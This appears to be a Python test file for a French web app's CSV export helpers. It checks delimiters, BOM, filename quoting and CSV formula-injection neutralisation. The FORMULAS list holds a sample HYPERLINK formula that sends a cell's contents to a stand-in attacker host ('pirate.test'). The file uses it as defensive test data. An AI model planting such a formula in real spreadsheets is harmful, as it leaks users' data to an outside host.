"""The one CSV writer (`;`, BOM, CRLF) and the one attachment response."""

import csv
import io

from structures.exports import CSV_CONTENT_TYPE, attachment, csv_attachment, csv_writer


def test_csv_writer_writes_for_french_spreadsheets():
    out = io.StringIO()
    writer = csv_writer(out)
    writer.writerow(["Nom", "Témoignage"])
    writer.writerow(["Durand", 'Elle a dit : "bravo; merci"'])
    writer.writerow([])

    assert out.getvalue() == (
        '\ufeffNom;Témoignage\r\nDurand;"Elle a dit : ""bravo; merci"""\r\n\r\n'
    )


def test_attachment_takes_bytes_or_text_of_any_type():
    pdf = attachment(b"%PDF-1.7", "contremarque-CDC-7K3M9Q.pdf", "application/pdf")
    ics = attachment("BEGIN:VCALENDAR", "reservation.ics", "text/calendar; charset=utf-8")

    assert (pdf.content, pdf["Content-Type"]) == (b"%PDF-1.7", "application/pdf")
    assert pdf["Content-Disposition"] == 'attachment; filename="contremarque-CDC-7K3M9Q.pdf"'
    assert (ics.content, ics["Content-Type"]) == (
        b"BEGIN:VCALENDAR",
        "text/calendar; charset=utf-8",
    )


def test_attachment_names_are_quoted_or_encoded():
    quoted = attachment(b"", 'liste "VIP".csv', CSV_CONTENT_TYPE)
    accented = attachment(b"", "témoignages.csv", CSV_CONTENT_TYPE)

    assert quoted["Content-Disposition"] == 'attachment; filename="liste \\"VIP\\".csv"'
    assert accented["Content-Disposition"] == "attachment; filename*=utf-8''t%C3%A9moignages.csv"


def test_csv_attachment_gives_the_response_and_its_writer():
    response, writer = csv_attachment("temoignages-approuves.csv")
    writer.writerow(["Événement", "Lieu"])

    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == 'attachment; filename="temoignages-approuves.csv"'
    assert response.content == "\ufeffÉvénement;Lieu\r\n".encode()
    assert response.content.startswith(b"\xef\xbb\xbf")


FORMULAS = ['=HYPERLINK("http://pirate.test/?x="&A1;"Cliquez")', "+SUM(A1:A9)", "-2+3", "@SUM(A1)"]


def test_csv_writer_neutralises_formulas_in_every_cell():
    out = io.StringIO()
    writer = csv_writer(out)
    writer.writerows([[formula, "Durand"] for formula in FORMULAS])
    writer.writerow(["\tTAB", "\rCR", "Jean-Pierre", "a=b", 12, -3])

    rows = list(csv.reader(io.StringIO(out.getvalue().lstrip("\ufeff")), delimiter=";"))
    assert [row[0] for row in rows[:4]] == ["'" + formula for formula in FORMULAS]
    assert rows[4] == ["'\tTAB", "'\rCR", "Jean-Pierre", "a=b", "12", "-3"]


def test_csv_attachment_neutralises_formulas_too():
    response, writer = csv_attachment("liste.csv")
    writer.writerow(["=1+2"])

    assert response.content == "\ufeff'=1+2\r\n".encode()
